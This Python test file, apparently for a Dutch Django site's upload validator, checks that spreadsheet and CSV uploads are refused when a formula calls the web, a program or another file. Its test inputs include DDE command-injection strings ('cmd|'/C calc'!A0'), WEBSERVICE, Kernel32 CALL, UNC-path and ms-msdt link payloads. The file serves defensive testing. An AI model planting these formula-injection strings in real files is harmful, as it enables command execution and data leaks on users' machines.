"""A formula in a file that is sent asks nothing of the web, another file or a program."""

from xml.sax.saxutils import escape, quoteattr

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile

from tests.website.made_files import open_document, open_xml, verdict
from website.uploads.refusal import Reason
from website.validators import validate_upload

WORKBOOK = {"main": "xl/workbook.xml"}
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
FORMULAS = [
    'SUM(A1:B2)&"Totaal: "&Blad2!A1',
    'IF(A1="","",HYPERLINK("https://example.org/?q="&A1,"Zie https://example.org"))',
    'HYPERLINK("#Blad2!A1","verder")',
    'HYPERLINK("mailto:a@example.org")',
    'MID(A1,FIND("://",A1)+3,99)',
    """INDIRECT("'"&A1&"'!B2")""",
    'INDIRECT("Tabel1["&A1&"]")+INDIRECT("R[1]C[-1]",FALSE)',
    'INDIRECT(A1&"[Kolom]")',
    "SUM(Tabel['#Aantal])+Tabel['#Prijs]*'Blad 2'!A1",
    "SUM(Tabel[[#This Row],[Prijs]])+[0]!Naam",
    '"https://example.org,https://example.com"',
    "SUM({1;2|3;4})",
]
FETCHING = [
    '_xlfn.WEBSERVICE("https://example.org")',
    "COM.MICROSOFT.WEBSERVICE(A1)",
    "_xlfn.IMAGE(A1)",
    'RTD("program",,"x")',
    'CALL("Kernel32","Beep","JJJ",1,2)',
    'REGISTER.ID("User32","x")',
    "cmd|'/C calc'!A0",
    '"https://example.org/"&A1',
    r"'\\1.2.3.4\x\[a.xlsx]Blad1'!A1",
    "[a.xlsx]Blad1!A1",
    """INDIRECT("'["&A1&"]Blad1'!A1")""",
    """INDIRECT("'http:"&"//"&A1)""",
    "['../a.ods'#$Blad1.A1]",
    'DDE("soffice","x","y")',
]
LEADING_AWAY = [
    '"\\\\1.2.3.4\\x"&A1',
    'HYPERLINK("\\\\1.2.3.4\\x","klik")',
    'HYPERLINK("ms-msdt:/id x")',
    'HYPERLINK("C:\\x.exe")',
]


def cell(formula: str) -> bytes:
    """A workbook of Excel with this formula in a cell."""
    sheet = f"<a:c xmlns:a='urn:a'><a:f>{escape(formula)}</a:f><a:v>5</a:v></a:c>"
    return open_xml("xlsx", **WORKBOOK, types={"/xl/a": SHEET}, more={"xl/a": sheet})


def table(formula: str, attribute: str = "formula") -> bytes:
    """A workbook of LibreOffice with this formula in an attribute of a cell."""
    return open_document("spreadsheet", f"<table:table-cell table:{attribute}={quoteattr(formula)}/>")


@pytest.mark.parametrize(
    ("formulas", "reason"),
    [(FORMULAS, "innocent"), (FETCHING, Reason.LINKED), (LEADING_AWAY, Reason.LOCAL_LINK)],
)
def test_formula_is_judged_by_what_it_asks_of_elsewhere(formulas, reason):
    verdicts = {formula: verdict("x.xlsx", cell(formula)) for formula in formulas}
    verdicts |= {f"of:={formula}": verdict("x.ods", table(f"of:={formula}")) for formula in formulas}

    assert verdicts == dict.fromkeys(verdicts, reason)


def test_formula_is_found_wherever_it_stands():
    fetching = 'WEBSERVICE("https://example.org")'
    elements = ("definedName", "formula", "formula1", "formula2", "calculatedColumnFormula")
    verdicts = {
        name: verdict("x.xlsx", open_xml("xlsx", **WORKBOOK, text=f"<{name}>{fetching}</{name}>"))
        for name in elements
    }
    verdicts |= {
        name: verdict("x.ods", table(fetching, name)) for name in ("formula", "expression", "condition")
    }

    assert verdicts == dict.fromkeys(verdicts, Reason.LINKED)


def test_list_of_texts_to_choose_from_is_no_formula():
    choices = 'of:cell-content-is-in-list("https://example.org";"https://example.com")'

    assert verdict("x.ods", table(choices, "condition")) == "innocent"


CELLS_THAT_ASK = [
    "=cmd|'/C calc'!A0",
    "1;@SUM(1,2)*cmd|'/C calc'!A0",
    "a,-2+3+cmd|' /C calc'!A0",
    '"=""a""&cmd|\' /C calc\'!A0"',
    '"=1+\ncmd|topic!A0"',
    '=WEBSERVICE("https://example.org/"&A1)',
]
CELLS_THAT_SAY = [
    "=A1+B1;ja|nee",
    "-5;Register (BRP);ja|nee!",
    '"-5";Image (foto)',
    "- een punt|nog een!",
    "+31 6 12345678;a@example.org;https://example.org",
    "'=cmd|'/C calc'!A0",
    "Zie cmd|'/C calc'!A0",
]


def test_cell_of_a_csv_file_that_asks_a_program_or_the_web_is_refused():
    for text in CELLS_THAT_SAY:
        validate_upload(ContentFile(f"naam;som\n{text};1\n".encode(), name="lijst.csv"))
    for text in CELLS_THAT_ASK:
        with pytest.raises(ValidationError, match="van elders"):
            validate_upload(ContentFile(f"naam;som\n{text};1\n".encode(), name="lijst.csv"))
